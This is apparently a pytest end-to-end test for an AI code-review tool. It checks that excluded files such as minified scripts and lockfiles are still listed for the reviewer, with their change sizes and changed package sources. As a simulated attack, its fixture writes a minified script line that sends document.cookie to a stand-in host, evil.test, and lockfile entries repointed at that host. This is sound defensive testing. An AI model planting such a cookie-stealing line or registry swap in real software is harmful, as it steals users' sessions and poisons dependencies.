"""Files advreview_exclude leaves out stay visible to the reviewer, with the real Codex CLI.

Observed on 1803125: the default excludes (lockfiles, ``*.min.js``, source maps) dropped
the file from the prompt whole; only the reports named it.  A pull request could put a
loaded script in a ``.min.js`` or point a lockfile entry at another package source, and
the reviewer never learned that the file had changed.  Now the prompt names each left-out
file with its size of change and the object id of its new content, and lists the
changed entries of a lockfile (package, version, source).
"""

from __future__ import annotations

import json

import pytest

from conftest import ReviewRepo, git, ran_prompts
from pytest_advreview.testing import approved_review
from test_pathrules_e2e import PROMPT, task

pytestmark = pytest.mark.real_codex


def _npm(resolved: str, extra: dict[str, dict[str, str]] | None = None) -> str:
    packages = {
        "": {"name": "web"},
        "node_modules/left-pad": {"version": "1.3.0", "resolved": resolved},
    }
    return json.dumps({"lockfileVersion": 3, "packages": {**packages, **(extra or {})}}, indent=2)


POETRY = """\
[[package]]
name = "requests"
version = "{version}"

[package.source]
type = "legacy"
url = "{url}"
"""
UV = """\
version = 1

[[package]]
name = "idna"
version = "{version}"
source = {{ registry = "{url}" }}
"""


def test_the_prompt_names_each_left_out_file_and_the_lockfile_entries_that_changed(
    review_repo: ReviewRepo,
) -> None:
    review_repo.write("app.py", "def run():\n    return 1\n")
    review_repo.write("web/package-lock.json", _npm("https://registry.test/left-pad-1.3.0.tgz"))
    review_repo.write(
        "poetry.lock", POETRY.format(version="2.31.0", url="https://pypi.test/simple")
    )
    review_repo.write("uv.lock", UV.format(version="3.6", url="https://pypi.test/simple"))
    review_repo.write("web/dist/app.min.js", "var a=1;\n")
    review_repo.commit("the base")
    git(review_repo.path, "checkout", "-q", "-b", "feature")
    review_repo.write("app.py", "def run():\n    return 2\n")
    review_repo.write(
        "web/package-lock.json",
        _npm("https://evil.test/left-pad.tgz", {"node_modules/helper": {"version": "0.0.1"}}),
    )
    review_repo.write(
        "poetry.lock", POETRY.format(version="2.31.0", url="https://evil.test/simple")
    )
    review_repo.write("uv.lock", UV.format(version="3.7", url="https://pypi.test/simple"))
    review_repo.write(
        "web/dist/app.min.js", "var a=1;\nfetch('https://evil.test/'+document.cookie);\n"
    )
    review_repo.write("web/dist/app.js.map", '{"version":3}\n')
    review_repo.commit("the feature")
    review_repo.answer(PROMPT, {"message": approved_review()})

    review_repo.run().assert_outcomes(passed=1)

    prompt = task(ran_prompts(review_repo.server, PROMPT)[-1])
    listed = prompt.split("Changed files:", 1)[1].split("Changes include:", 1)[0]
    assert listed.split() == ["app.py"]
    lines = prompt.splitlines()
    blob = git(review_repo.path, "rev-parse", "HEAD:web/dist/app.min.js").strip()[:12]
    assert f"- web/dist/app.min.js (+1 -0, new content {blob})" in lines
    assert any(line.startswith("- web/dist/app.js.map (+1 -0, new content ") for line in lines)
    assert any(line.startswith("- web/package-lock.json (+") for line in lines)
    assert (
        "  - node_modules/left-pad: 1.3.0 (https://registry.test/left-pad-1.3.0.tgz) -> "
        "1.3.0 (https://evil.test/left-pad.tgz)"
    ) in lines
    assert "  - node_modules/helper: added 0.0.1" in lines
    assert (
        "  - requests: 2.31.0 (type=legacy, url=https://pypi.test/simple) -> "
        "2.31.0 (type=legacy, url=https://evil.test/simple)"
    ) in lines
    assert (
        "  - idna: 3.6 (registry=https://pypi.test/simple) -> 3.7 (registry=https://pypi.test/simple)"
    ) in lines
    # Still left out of the reviewer's diff command, and the script's text is not sent.
    assert "':(exclude,literal,top)web/dist/app.min.js'" in prompt
    assert "document.cookie" not in prompt
